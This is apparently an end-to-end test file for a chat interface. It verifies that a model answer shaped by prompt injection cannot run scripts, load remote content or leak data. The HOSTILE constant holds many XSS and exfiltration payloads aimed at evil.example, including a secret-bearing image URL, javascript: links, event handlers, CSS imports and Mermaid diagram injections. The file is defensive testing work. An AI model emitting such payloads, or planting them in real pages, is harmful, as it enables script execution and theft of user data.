import assert from "node:assert/strict";
import { ChatPage } from "../lib/chat.js";
import { scenarios } from "../lib/scenario.js";
import { untilEqual } from "../lib/wait.js";

const scenario = scenarios({ url: import.meta.url });

const ELSEWHERE = "https://evil.example";

/** What a page or a mail may have told a model to say: everything that fetches, runs or leads astray. */
const HOSTILE = `Here is the summary you asked for.

![a harmless picture](${ELSEWHERE}/image.png?secret=abc)
![][ref] ![data](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==) ![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iaGFja2VkKCkiLz4=)

[ref]: ${ELSEWHERE}/reference.gif

[a link](${ELSEWHERE}/link) and [a script](javascript:hacked()) and [another](JaVaScRiPt&#58;hacked()) and [data](data:text/html,hacked) and <${ELSEWHERE}/auto> and //evil.example/bare and [same scheme](//evil.example/relative)

<script>hacked()</script><script src="${ELSEWHERE}/script.js"></script>
<img src="${ELSEWHERE}/html-image.png" onerror="hacked()"> <img src=x onerror=hacked()>
<iframe src="${ELSEWHERE}/frame"></iframe> <object data="${ELSEWHERE}/object"></object> <embed src="${ELSEWHERE}/embed">
<link rel="stylesheet" href="${ELSEWHERE}/style.css"> <style>@import url("${ELSEWHERE}/import.css"); body { background: url(${ELSEWHERE}/background.png) }</style>
<svg onload="hacked()"><image href="${ELSEWHERE}/svg.png"/></svg> <video src="${ELSEWHERE}/video.mp4" poster="${ELSEWHERE}/poster.png" autoplay></video>
<form action="${ELSEWHERE}/form"><input name="password"><button>Sign in again</button></form> <base href="${ELSEWHERE}/"> <meta http-equiv="refresh" content="0;url=${ELSEWHERE}/meta">
<p style="position:fixed;inset:0;background:url(${ELSEWHERE}/inline.png)" id="page">covered</p>

Inline maths $\\href{javascript:hacked()}{x}$, $\\includegraphics{${ELSEWHERE}/maths.png}$ and $\\htmlStyle{background:url(${ELSEWHERE}/htmlstyle.png)}{y}$ and $\\url{${ELSEWHERE}/mathurl}$.

\`\`\`mermaid
flowchart LR
  A["<img src='${ELSEWHERE}/mermaid.png' onerror='hacked()'>"] --> B[Click me]
  click B "javascript:hacked()"
\`\`\`

\`\`\`mermaid
%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%
flowchart LR
  C["<img src='${ELSEWHERE}/loose.png'> <b onclick='hacked()'>bold</b>"] --> D[Next]
  click D call hacked()
  click C href "${ELSEWHERE}/mermaid-link" _blank
\`\`\`

\`\`\`mermaid
%%{init: {"themeCSS": "@import url('${ELSEWHERE}/mermaid.css'); * { background: url(${ELSEWHERE}/theme.png) }", "fontFamily": "x;} * {background: url(${ELSEWHERE}/font.png)"}}%%
flowchart LR
  E[Plain] --> F[Styled]
  style F fill:#fff,background-image:url(${ELSEWHERE}/node.png)
\`\`\`

\`\`\`mermaid
sequenceDiagram
  participant G as <img src='${ELSEWHERE}/sequence.png'>
  G->>H: <script>hacked()</script> and words
\`\`\`

\`\`\`mermaid
---
config:
  htmlLabels: true
  flowchart:
    htmlLabels: true
  themeCSS: "@import url('${ELSEWHERE}/front-matter.css');"
---
flowchart LR
  I["<img src='${ELSEWHERE}/front-matter.png'>"] --> J[Front matter]
\`\`\`

\`\`\`mermaid
flowchart LR
  K@{ img: "${ELSEWHERE}/shape.png", label: "A picture as a shape", w: 60, h: 60 }
\`\`\`

\`\`\`mermaid
flowchart LR
  L@{ "\\x69mg": "${ELSEWHERE}/spelled.png", label: "Spelled in another way" }
\`\`\`

\`\`\`mermaid
sequenceDiagram
  participant M
  links M: {"Dashboard": "${ELSEWHERE}/dashboard", "Run": "javascript:hacked()"}
  M->>M: A menu of links
\`\`\`

\`\`\`mermaid
sequenceDiagram
  participant M
  participant N
  properties N: {"icon": "${ELSEWHERE}/actor.png"}
  M->>N: An actor with a picture
\`\`\`

\`\`\`mermaid
sequenceDiagram
  participant O
  participant P
  rect url(${ELSEWHERE}/rect.svg#x)
    O->>P: A message <img src="${ELSEWHERE}/message.png" onerror="hacked()">
  end
  Note over P: <iframe src="${ELSEWHERE}/note"></iframe> a note
\`\`\`

\`\`\`mermaid
classDiagram
  class Bear {
    <<interface>>
    +sleep() <img src='${ELSEWHERE}/member.png' onerror='hacked()'>
  }
  class Den
  Bear --> Den
  link Bear "${ELSEWHERE}/class" "tip <img src='${ELSEWHERE}/tip.png'>"
  click Den call hacked()
\`\`\`

\`\`\`mermaid
stateDiagram-v2
  classDef bad fill:#fff,background-image:url(${ELSEWHERE}/state.png),mask:\\75rl(${ELSEWHERE}/escaped.png)
  state "<svg onload=hacked()> asleep" as s1
  s1 --> s2
  class s1 bad
  click s1 "javascript:hacked()" "tip"
  click s2 href "${ELSEWHERE}/state-link"
\`\`\`

\`\`\`mermaid
gantt
  dateFormat YYYY-MM-DD
  section <img src='${ELSEWHERE}/section.png'>
  Sleep :sleep, 2026-11-01, 30d
  Wake :wake, after sleep, 2d
  click sleep href "javascript:hacked()"
  click wake call hacked()
\`\`\`

\`\`\`mermaid
architecture-beta
  service a("<img src='${ELSEWHERE}/service.png' onerror='hacked()'>")[Service]
\`\`\`

\`\`\`mermaid
%%{init: {"themeVariables": {"primaryColor": "url(${ELSEWHERE}/variable.png)", "fontFamily": "x; background: url(${ELSEWHERE}/family.png)"}, "dompurifyConfig": {"ADD_TAGS": ["iframe"]}, "secure": []}}%%
journey
  title <img src='${ELSEWHERE}/journey.png'>
  section Winter <iframe src='${ELSEWHERE}/journey'></iframe>
    Sleep <img src='${ELSEWHERE}/task.png' onerror='hacked()'>: 5: Bear
\`\`\`

\`\`\`mermaid
flowchart LR
  Q["\`**bold** ![picture](${ELSEWHERE}/markdown.png) [link](javascript:hacked())\`"] --> R["<foreignObject><iframe src='${ELSEWHERE}/foreign'></iframe></foreignObject>"]
  R --> T[/"&lt;img src='${ELSEWHERE}/entity.png' onerror='hacked()'&gt; #lt;img src='${ELSEWHERE}/entity2.png'#gt;"/]
  classDef bad fill:#fff,background-image:url(${ELSEWHERE}/class.png)
  class Q bad
\`\`\`

\`\`\`html
<img src="${ELSEWHERE}/in-code.png" onerror="hacked()">
\`\`\`

| a | b |
|---|---|
| ![cell](${ELSEWHERE}/cell.png) | <img src="${ELSEWHERE}/cell-html.png"> |

The end of the summary.
`;

scenario("a hostile answer fetches nothing, runs nothing and breaks no policy, while it streams and when it is there", async ({ kuma, upstream, open }) => {
  const page = await open({ person: await kuma.person(), path: "/chat" });
  await page.evaluate(() => {
    globalThis.hacks = 0;
    globalThis.hacked = () => {
      globalThis.hacks += 1;
    };
  });
  // Cut into small pieces: every half of a tag or a link is rendered once.
  const pieces = HOSTILE.match(/[\s\S]{1,97}/g).map((text) => ({ text }));
  await upstream.rule("Summarise that page", { pieces, rate: 200 });
  const chat = new ChatPage(page);
  await chat.send("Summarise that page");
  await chat.answered(30_000);
  await chat.thread.getByText("The end of the summary.").waitFor();
  const answer = chat.messages.last();
  await check(page, answer);
  await page.reload();
  await answer.getByText("The end of the summary.").waitFor();
  await check(page, answer);
  if (process.env.SHOT) await page.screenshot({ path: process.env.SHOT, fullPage: true });
  assert.equal(page.url(), `${kuma.url}/chat/${await chat.chatId()}`);
  assert.equal(page.context().pages().length, 1);
});

const DIAGRAMS = HOSTILE.match(/^```mermaid$/gm).length;

async function check(page, answer) {
  // Each is drawn, or its source is shown with the reason; until then it is not known what it would do.
  await untilEqual("diagrams that are done", async () => (await answer.locator(".md-diagram-drawing svg").count()) + (await answer.getByText(/This diagram (could not be drawn|has pictures or menus)/).count()), DIAGRAMS);
  // What is only refused as a whole proves nothing about what is drawn.
  const drawn = await answer.locator(".md-diagram-drawing svg").count();
  assert.ok(drawn >= 8, `only ${drawn} of ${DIAGRAMS} diagrams were drawn`);
  assert.equal(await answer.locator(".md-diagram-drawing svg > style").count(), drawn, "a drawing lost its own styles");
  await untilEqual("diagrams with pictures or menus", () => answer.getByText("has pictures or menus").count(), 4);
  const inside = await answer.locator(".md-diagram-drawing").evaluateAll((boxes) => boxes.flatMap((box) => [...box.querySelectorAll("a, image, img, [href], [*|href]")].map((element) => element.outerHTML.slice(0, 200))));
  assert.deepEqual(inside.filter((html) => !/href="#/.test(html)), [], "a drawing leads or fetches");
  assert.equal((await page.evaluate(() => globalThis.hacks)) ?? 0, 0, "a script of the answer ran");
  const found = await answer.evaluate((root) => {
    const all = [...root.querySelectorAll("*")];
    const attributes = all.flatMap((element) => [...element.attributes].map(({ name, value }) => ({ tag: element.localName, name, value })));
    return {
      tags: [...new Set(all.map((element) => element.localName))],
      handlers: attributes.filter(({ name }) => name.startsWith("on")),
      schemes: attributes.filter(({ name, value }) => ["href", "src", "xlink:href", "action"].includes(name) && /^\s*(javascript|data:text|vbscript)/i.test(value)),
      sources: attributes.filter(({ name, value }) => ["src", "srcset", "poster", "data"].includes(name) && /evil/.test(value)),
      styles: attributes.filter(({ name, value }) => name === "style" && /url\(|fixed/.test(value)),
      sheets: all.filter((element) => element.localName === "style" && /evil|@import/.test(element.textContent)).map((element) => element.textContent.slice(0, 200)),
      links: all.filter((element) => element.localName === "a").map((element) => ({ href: element.getAttribute("href"), rel: element.getAttribute("rel"), target: element.getAttribute("target") })),
      ids: all.filter((element) => element.id === "page").length,
    };
  });
  for (const tag of ["script", "iframe", "object", "embed", "link", "form", "base", "meta", "video"]) {
    assert.ok(!found.tags.includes(tag), `the answer holds <${tag}>`);
  }
  for (const kind of ["handlers", "schemes", "sources", "styles", "sheets"]) assert.deepEqual(found[kind], [], kind);
  assert.equal(found.ids, 0, "the answer took an id of the page");
  const outside = found.links.filter(({ href }) => href?.includes("evil.example"));
  assert.ok(outside.some(({ href }) => href === `${ELSEWHERE}/link`), "an honest link is a link");
  for (const link of outside) {
    assert.match(link.rel ?? "", /noopener/, link.href);
    assert.match(link.rel ?? "", /noreferrer/, link.href);
    assert.equal(link.target, "_blank", link.href);
  }
}

scenario("a remote image is a link that names its host", async ({ kuma, upstream, open }) => {
  const page = await open({ person: await kuma.person(), path: "/chat" });
  await upstream.rule("Show me a bear", { pieces: [{ text: `Look: ![a brown bear](${ELSEWHERE}/bear.jpg)` }] });
  const chat = new ChatPage(page);
  await chat.send("Show me a bear");
  const link = chat.messages.last().getByRole("link", { name: /a brown bear/ });
  await link.waitFor();
  assert.equal(await link.getAttribute("href"), `${ELSEWHERE}/bear.jpg`);
  assert.match((await link.innerText()) + ((await link.getAttribute("title")) ?? "") + ((await link.getAttribute("aria-label")) ?? ""), /evil\.example/);
  assert.equal(await chat.messages.last().locator("img").count(), 0);
});

scenario("what a person writes is shown as it was written, never as markup", async ({ kuma, open }) => {
  const page = await open({ person: await kuma.person("<img src=x onerror=alert(1)>"), path: "/chat" });
  const chat = new ChatPage(page);
  const text = `<img src="${ELSEWHERE}/own.png" onerror="alert(1)"> <b>bold</b>`;
  await chat.send(text);
  await chat.answered();
  await chat.messages.first().getByText(text, { exact: true }).waitFor();
  assert.equal(await page.locator('img[src*="evil"], img[src="x"]').count(), 0);
});

scenario("the server's pages may not be framed, and ask for nothing from outside", async ({ kuma }) => {
  for (const path of ["/", "/chat", "/api/health"]) {
    const { headers } = await fetch(kuma.url + path);
    const policy = headers.get("content-security-policy") ?? "";
    for (const rule of ["default-src 'self'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"]) assert.ok(policy.includes(rule), `${path}: ${rule}`);
    assert.doesNotMatch(policy, /https?:|\*|script-src[^;]*'unsafe-(inline|eval)'/, path);
    assert.equal(headers.get("x-content-type-options"), "nosniff");
    assert.equal(headers.get("referrer-policy"), "no-referrer");
  }
});
